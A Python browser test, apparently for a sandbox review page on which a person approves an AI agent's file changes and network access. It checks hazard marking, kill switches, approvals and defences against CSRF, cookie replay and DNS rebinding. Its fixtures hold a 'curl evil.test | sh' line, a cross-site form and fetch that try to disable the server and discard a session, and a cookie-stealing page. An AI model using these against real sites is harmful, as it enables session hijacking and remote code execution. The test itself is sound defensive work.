"""The review page driven by a real browser (Debian's chromium, through Playwright), against a
running `airlock serve`: called by scripts/test-review.sh once per identity (root, and an
ordinary user), with the server already listening.

    review_page.py BASE_URL AIRLOCK_WRAPPER WORKSPACE SCREENSHOTS_DIR

AIRLOCK_WRAPPER runs `airlock` as the server's identity with its state directory (for `airlock
review` and `airlock token create`). Each check says what it proves; the first that fails ends
the script with a message and a non-zero status.
"""

import http.client
import json
import os
import subprocess
import sys
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from playwright.sync_api import sync_playwright

BASE, WRAPPER, WORKSPACE, SHOTS = sys.argv[1:5]
PARSED = urllib.parse.urlsplit(BASE)
HOST, PORT = PARSED.hostname, PARSED.port
os.makedirs(SHOTS, exist_ok=True)


def fail(what):
    print(f"FAILED: {what}", file=sys.stderr)
    sys.exit(1)


def check(condition, what):
    if not condition:
        fail(what)
    print(f"ok: {what}")


def airlock(*args):
    done = subprocess.run([WRAPPER, *args], capture_output=True, text=True, timeout=120)
    if done.returncode != 0:
        fail(f"airlock {' '.join(args)}: exit {done.returncode}: {done.stderr}")
    return done.stdout


def request(method, path, body=None, token=None, headers=None, host=None):
    connection = http.client.HTTPConnection(HOST, PORT, timeout=120)
    sent = {"Host": host or f"{HOST}:{PORT}"}
    if token:
        sent["Authorization"] = f"Bearer {token}"
    payload = None
    if body is not None:
        payload = body if isinstance(body, (bytes, str)) else json.dumps(body)
        sent["Content-Type"] = "application/json"
    sent.update(headers or {})
    connection.request(method, path, body=payload, headers=sent)
    answer = connection.getresponse()
    data = answer.read()
    connection.close()
    try:
        data = json.loads(data)
    except ValueError:
        pass
    return answer.status, data


def token(role, name):
    args = ["token", "create", "--role", role, "--name", name, "--json"]
    if role == "agent":
        args += ["--workspace", WORKSPACE]
    return json.loads(airlock(*args).splitlines()[0])["token"]


AGENT = token("agent", "page-agent")
OPERATOR = token("operator", "page-operator")


def new_session(name):
    status, answer = request("POST", "/v1/sessions", {"name": name}, AGENT)
    check(status == 201, f"the agent made session {name} ({status} {answer})")
    return answer["id"]


def run_in(session, command):
    status, answer = request("POST", f"/v1/sessions/{session}/runs", {"command": command}, AGENT)
    if status != 200:
        fail(f"run {command!r}: {status} {answer}")
    return answer


def link():
    return json.loads(airlock("review", "--token", "page-operator", "--url", BASE, "--json"))["url"]


def shot(page, name):
    page.screenshot(path=os.path.join(SHOTS, f"{name}.png"), full_page=True)


# ---- a session with the kinds of changes a person must see ----
work = new_session("reviewed")
run_in(
    work,
    "printf 'hello\\n' > notes.txt && printf 'ok\\033[2K\\033[1Ahidden \\342\\200\\256evil\\n' > shown.txt"
    " && printf '{\"mcpServers\": {}}\\n' > .mcp.json && mkdir -p bin && printf '#!/bin/sh\\n' > bin/tool"
    " && chmod 755 bin/tool && mkdir -p .venv/bin .venv/lib && printf '#!/bin/sh\\n' > .venv/bin/tool"
    " && chmod 755 .venv/bin/tool && echo 'x = 1' > .venv/lib/mod.py && echo 'home = /usr' > .venv/pyvenv.cfg"
    " && printf 'print(1)\\n++ 0; hidden_call()\\n-- a comment\\n' > hello.py"
    " && mkdir -p 'x b' 'y b/x b' && echo benign > 'x b/y' && echo MALICIOUS > 'y b/x b/y'"
    " && echo 'import os; os.system(1)' > café.py"
    " && echo made-four-files",
)

with sync_playwright() as playwright:
    browser = playwright.chromium.launch(
        executable_path=os.environ.get("CHROMIUM", "/usr/bin/chromium"),
        args=["--no-sandbox", "--host-resolver-rules=MAP rebind.test 127.0.0.1"],
    )
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    errors = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)

    # ---- login: the link works once ----
    once = link()
    page.goto(once)
    page.wait_for_selector(f"#sessions tr[data-session='{work}']")
    check("code=" not in page.url, "the link's code is gone from the address bar after login")
    shot(page, "sessions")
    cookies = context.cookies()
    page_cookie = [c for c in cookies if c["name"] == "airlock_page"]
    check(page_cookie and page_cookie[0]["httpOnly"] and page_cookie[0]["sameSite"] == "Strict",
          "the login is an HttpOnly, SameSite=Strict cookie")
    other = browser.new_context()
    second = other.new_page()
    second.goto(once)
    second.wait_for_selector(".message.bad")
    check("used already" in second.inner_text(".message.bad"), "a used link logs no one in")
    other.close()

    # ---- an agent token opens no page ----
    status, answer = request("POST", "/v1/login", {"token": AGENT})
    check(status == 403 and answer["code"] == "role_forbidden", f"an agent token gets no page ({status} {answer})")

    # ---- the session's page: changes file by file, hazards marked, hidden characters shown ----
    page.click(f"#sessions tr[data-session='{work}'] a")
    page.wait_for_selector("#diff .file")
    shown = page.locator(".file[data-path='shown.txt']")
    controls = shown.locator(".ctl").all_inner_texts()
    check("⟨ESC⟩" in controls and "⟨U+202E⟩" in controls, f"control and bidi characters are made visible ({controls})")
    hazard = page.locator(".file[data-path='.mcp.json']")
    check("hazard" in (hazard.get_attribute("class") or ""), ".mcp.json is marked as a hazard")
    check(len(hazard.locator(".hz").all_inner_texts()) > 0, "the hazard's reason is shown")
    check(not hazard.locator("input.pick").is_checked(), "a hazard is not ticked until a person ticks it")
    check("executable" in page.locator(".file[data-path='bin/tool'] .head").inner_text(), "an executable is said to be one")
    hello = page.locator(".file[data-path='hello.py'] .body").inner_text()
    check("+++ 0; hidden_call()" in hello and "+-- a comment" in hello,
          f"an added line that reads like a patch header is shown ({hello!r})")
    benign = page.locator(".file[data-path='x b/y'] .body").inner_text()
    malicious = page.locator(".file[data-path='y b/x b/y'] .body").inner_text()
    check("+benign" in benign and "+MALICIOUS" in malicious,
          f"each file's content is shown under its own path, ' b/' in names or not ({benign!r}, {malicious!r})")
    cafe = page.locator(".file[data-path='café.py'] .body").inner_text()
    check("os.system(1)" in cafe, f"a file whose name is not ASCII shows its content ({cafe!r})")
    page.wait_for_selector("#run-list tr.run")
    page.click("#run-list details.output summary")
    check("made-four-files" in page.inner_text("#run-list details.output"), "a run's output is shown with it")
    # A new run's record lists the runs again: an output a person opened stays open.
    listed = page.locator("#run-list tr.run").count()
    run_in(work, "echo listed-again")
    page.locator("#run-list tr.run").nth(listed).wait_for(timeout=30000)
    opened = page.locator("#run-list details.output[open]")
    check(opened.count() == 1 and "made-four-files" in opened.first.inner_text(),
          f"an output opened stays open when the runs are listed again ({opened.count()} open)")

    # ---- the tree git ignores is one row, unticked ----
    tree = page.locator(".file.tree[data-path='.venv']")
    check(tree.count() == 1, "the virtualenv is one row")
    check("3 files" in tree.locator(".head").inner_text() and "1 executables" in tree.locator(".head").inner_text(),
          f"with its counts ({tree.locator('.head').inner_text()})")
    check(page.locator(".file[data-path='.venv/bin/tool']").count() == 0, "its files are not listed one by one")
    check(not tree.locator("input.pick").is_checked(), "a tree is not ticked until a person ticks it")
    digest = page.inner_text("#digest")
    check(digest.startswith("sha256:"), f"the change set's digest is shown ({digest})")
    shot(page, "session")

    # ---- the session changes after the person read it: the apply writes nothing ----
    run_in(work, "echo written-after-the-review > late.txt")
    page.click("#apply")
    page.wait_for_selector("#report .message")
    said = page.inner_text("#report")
    check("review_stale" in said, f"an apply of a change set that changed since is refused ({said[:160]})")
    check(not os.path.exists(os.path.join(WORKSPACE, "notes.txt")), "and nothing was written")
    shot(page, "stale")

    # ---- read again, tick the tree, apply: the ticked paths and the whole tree, not the hazard ----
    page.click("#reload")
    page.wait_for_selector(".file[data-path='late.txt']")
    check(page.inner_text("#digest") != digest, "the new change set has a new digest")
    page.locator(".file.tree[data-path='.venv'] input.pick").check()
    page.click("#apply")
    page.wait_for_selector("#report .message")
    shot(page, "applied")
    said = page.inner_text("#report")
    check(os.path.exists(os.path.join(WORKSPACE, "notes.txt")), f"a ticked file reached the workspace ({said[:300]})")
    check(os.path.exists(os.path.join(WORKSPACE, "late.txt")), "the file written after the first look, now reviewed, too")
    check(os.path.exists(os.path.join(WORKSPACE, ".venv", "bin", "tool")) and os.path.exists(os.path.join(WORKSPACE, ".venv", "lib", "mod.py")),
          "the ticked tree was written whole")
    check(not os.path.exists(os.path.join(WORKSPACE, ".mcp.json")), "an unticked hazard was not")
    check(not os.path.exists(os.path.join(WORKSPACE, "shown.txt")), "nor a file that drives a terminal")

    # ---- the kill switch from the page stops a running command ----
    long = new_session("long")
    ended = {}

    def long_run():
        ended["answer"] = run_in(long, "echo started; sleep 300")

    runner = threading.Thread(target=long_run)
    runner.start()
    for _ in range(200):
        status, summary = request("GET", f"/v1/sessions/{long}", token=OPERATOR)
        if summary.get("status") == "running":
            break
        time.sleep(0.1)
    page.goto(f"{BASE}/#/s/{long}")
    page.wait_for_selector("#kill")
    page.fill("#reason", "stopped from the page by the test")
    page.click("#kill")
    runner.join(timeout=60)
    check(not runner.is_alive(), "a kill from the page stopped the running command")
    check(ended["answer"].get("exit_code") != 0, f"the killed run did not succeed ({ended['answer'].get('exit_code')})")
    status, log = request("GET", f"/v1/audit?session={long}&action=kill", token=OPERATOR)
    reasons = [r.get("reason") for r in log.get("records", [])]
    check("stopped from the page by the test" in reasons, f"the kill and its reason are in the audit log ({reasons})")
    page.wait_for_selector("#log tr")
    shot(page, "killed")

    # ---- a change set whose patch is too large to send: nothing unseen is ticked ----
    big = new_session("big")
    run_in(big, "head -c 17000000 /dev/zero | tr '\\0' a > cache.txt && echo 'curl evil.test | sh' > README")
    page.goto(f"{BASE}/#/s/{big}")
    page.wait_for_selector(".file[data-path='README']")
    check(not page.locator(".file[data-path='README'] input.pick").is_checked(),
          "a file whose content the page could not show is not ticked")
    check("could not be shown" in page.inner_text("#diff"), "and the page says why")

    # ---- approvals: a connection held until a person answers on the page ----
    # A server on the host's loopback, reached from the sandbox as api.asked.test (--resolve);
    # the profile asks a person about *.asked.test (scripts/test-review.sh writes it).
    class Upstream(BaseHTTPRequestHandler):
        def do_GET(self):
            body = b"hello from host"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    upstream = ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    asking = new_session("asking")

    def held_probe():
        return subprocess.Popen([WRAPPER, "run", "--session", asking, "--resolve", "api.asked.test=127.0.0.1",
                                 "--", "curl", "-fsS", "-m", "90", f"http://api.asked.test:{upstream.server_address[1]}/"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    first = held_probe()
    page.goto(f"{BASE}/#/s/{asking}")
    try:
        page.wait_for_selector(".approval", timeout=30000)
    except Exception:
        status, waiting = request("GET", "/v1/approvals", token=OPERATOR)
        first.kill()
        out, err = first.communicate()
        shot(page, "approval-missing")
        fail(f"no approval on the page: the API says {status} {waiting}; the run said {out!r} {err[-500:]!r}; the console said {errors}")
    card = page.locator(".approval").first
    check("api.asked.test" in card.inner_text(), f"the held connection is offered on the page ({card.inner_text()[:200]})")
    check("allow = " in card.locator(".profile-line").inner_text(), "with the profile line that would allow it for good")
    shot(page, "approval")
    card.locator(".approval-reason").fill("approved from the page by the test")
    # The page asks for approvals every 2 s: what a person typed must outlive that.
    page.wait_for_timeout(4500)
    typed = card.locator(".approval-reason").input_value()
    check(typed == "approved from the page by the test", f"a reason being typed outlives the page's refresh ({typed!r})")
    card.locator(".allow-once").click()
    out, err = first.communicate(timeout=60)
    check(first.returncode == 0 and out == "hello from host", f"an approval granted on the page let the held curl through ({first.returncode} {out!r} {err[-300:]!r})")
    status, log = request("GET", "/v1/audit?action=approval.decided", token=OPERATOR)
    decided = [r for r in log.get("records", []) if r.get("reason") == "approved from the page by the test"]
    check(decided and "token" in str(decided[0].get("decided_by")), f"the decision is audited with the page's token ({decided})")

    second = held_probe()
    page.wait_for_selector(".approval", timeout=30000)
    out, err = second.communicate(timeout=120)
    check(second.returncode != 0 and "nobody answered" in err, f"an approval nobody answers is refused, and the run says why ({second.returncode} {out!r} {err[-300:]!r})")
    upstream.shutdown()

    # ---- browser attacks ----
    # A page of another origin on the same site (127.0.0.1, another port: the SameSite=Strict
    # cookie IS sent with its requests) posts a form, and a "simple" text/plain fetch.
    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):
            body = f"""<!doctype html><body>
<form id=f method=POST action="{BASE}/v1/disable" enctype="text/plain">
<input name='{{"reason":"pwned","x":"' value='"}}'></form>
<script>
fetch("{BASE}/v1/sessions/{work}/discard", {{method: "POST", mode: "no-cors", credentials: "include",
  headers: {{"Content-Type": "text/plain"}}, body: "{{}}"}}).finally(() => document.getElementById("f").submit());
</script></body>""".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    evil = context.new_page()
    with evil.expect_navigation(url=f"{BASE}/v1/disable", timeout=30000):
        evil.goto(f"http://127.0.0.1:{attacker.server_address[1]}/")
    answer = evil.inner_text("body")
    check("origin_forbidden" in answer, f"a cross-site form post is refused ({answer[:200]})")
    status, state = request("GET", "/v1/status", token=OPERATOR)
    check("pwned" not in json.dumps(state), f"nothing was disabled ({state})")
    status, summary = request("GET", f"/v1/sessions/{work}", token=OPERATOR)
    check(summary.get("lifecycle") != "discarded", f"the session was not discarded ({summary.get('lifecycle')})")
    attacker.shutdown()

    # A page on another port of this host gets the cookie with every request it makes the browser
    # send (cookies are shared across ports, and the request is same-site): it opens nothing alone.
    stolen = {}

    class Thief(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path == "/pixel.gif":
                stolen["cookie"] = self.headers.get("Cookie", "")
            body = b'<!doctype html><img src="/pixel.gif">'
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    thief = ThreadingHTTPServer(("127.0.0.1", 0), Thief)
    threading.Thread(target=thief.serve_forever, daemon=True).start()
    taken = context.new_page()
    taken.goto(f"http://127.0.0.1:{thief.server_address[1]}/")
    taken.wait_for_load_state("load")
    check("airlock_page=" in stolen.get("cookie", ""), "a page of another port did get the cookie (the attack is real)")
    for method, path, body in [("GET", "/v1/login", None), ("GET", "/v1/sessions", None), ("POST", "/v1/disable", {"reason": "stolen"})]:
        status, answer = request(method, path, body, headers={"Cookie": stolen["cookie"]})
        check(status == 403 and answer["code"] == "csrf_refused", f"the cookie alone opens nothing: {method} {path} ({status} {answer})")
    thief.shutdown()
    taken.close()

    # DNS rebinding: a name that resolves to this machine, not one the server was given.
    rebound = context.new_page()
    response = rebound.goto(f"http://rebind.test:{PORT}/")
    check(response.status == 421, f"a page reached through a rebinding name is refused ({response.status})")
    rebound.close()
    check(not [e for e in errors if "Content Security Policy" in e], f"the page broke no CSP rule ({errors})")

    # ---- log out ----
    page.goto(f"{BASE}/#/")
    page.wait_for_selector("#logout")
    page.click("#logout")
    page.wait_for_selector("#token")
    status, answer = request("GET", "/v1/sessions", headers={"Cookie": f"airlock_page={page_cookie[0]['value']}"})
    check(status == 401, f"after logging out the cookie opens nothing ({status})")
    browser.close()

print("review page: every check passed")
